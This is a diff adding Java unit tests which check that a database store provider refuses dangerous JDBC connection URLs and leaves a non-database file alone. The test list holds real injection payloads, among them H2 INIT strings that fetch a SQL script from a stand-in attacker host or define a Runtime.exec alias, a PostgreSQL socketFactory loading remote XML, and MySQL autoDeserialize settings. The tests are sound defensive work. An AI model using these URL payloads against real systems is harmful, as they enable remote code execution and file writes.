@@ -120,4 +120,41 @@ class JdbcStoreProviderTest {
         assertTrue(e.getMessage().contains(expected), e.getMessage());
         assertFalse(e.getMessage().contains("hunter2"), e.getMessage());
     }
+
+    @Test
+    void refusesUrlSettingsThatLoadClassesReadFilesOrRunSql() {
+        for (String uri : List.of(
+                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
+                "jdbc:postgresql://127.0.0.1:5432/test?user=postgres&sslfactory=x.Y",
+                "jdbc:postgresql://127.0.0.1:5432/test?loggerFile=/etc/cron.d/x",
+                "jdbc:postgresql://127.0.0.1:5432/test?SOCKETFACTORY=x",
+                "jdbc:postgresql://127.0.0.1:5432/test?%73ocketFactory=x",
+                "jdbc:mariadb://127.0.0.1:3306/test?allowLocalInfile=true",
+                "jdbc:mysql://127.0.0.1:3306/test?autoDeserialize=true&queryInterceptors=x.Y",
+                "jdbc:mysql://(host=127.0.0.1,port=3306,autoDeserialize=true)/test",
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+                "jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {Runtime.getRuntime().exec(c);}'",
+                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;INIT=CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS 'x'",
+                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=RUNSCRIPT FROM 'x'")) {
+            IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> StoreProviders.open(uri), uri);
+            assertTrue(e.getMessage().contains("refused"), e.getMessage());
+        }
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+                () -> StoreProviders.open("jdbc:postgresql://127.0.0.1:5432/test?user=u&password=s3cret&sslfactory=x"));
+        assertFalse(e.getMessage().contains("s3cret"), e.getMessage());
+    }
+
+    @Test
+    void aSqliteUriOnAFileThatIsNotADatabaseIsRefusedAndTheFileLeftAlone() throws Exception {
+        Path text = dir.resolve("passwd");
+        java.nio.file.Files.writeString(text, "root:x:0:0:root:/root:/bin/bash\n");
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("sqlite:" + text));
+        assertTrue(e.getMessage().contains("not an SQLite database"), e.getMessage());
+        assertEquals("root:x:0:0:root:/root:/bin/bash\n", java.nio.file.Files.readString(text));
+        assertThrows(IllegalArgumentException.class, () -> StoreProviders.open("sqlite:" + dir));
+        java.nio.file.Files.createFile(dir.resolve("empty.db"));
+        try (VersionedStore store = StoreProviders.open("sqlite:" + dir.resolve("empty.db"))) {
+            roundTrip(store); // an empty file is a new database
+        }
+    }
 }
